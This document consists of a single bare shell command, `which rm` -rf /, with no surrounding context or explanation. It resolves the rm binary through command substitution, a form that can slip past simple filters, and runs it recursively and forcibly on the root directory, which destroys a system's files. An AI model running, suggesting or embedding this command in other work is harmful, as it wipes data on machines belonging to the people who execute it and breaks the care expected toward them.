`which rm` -rf /
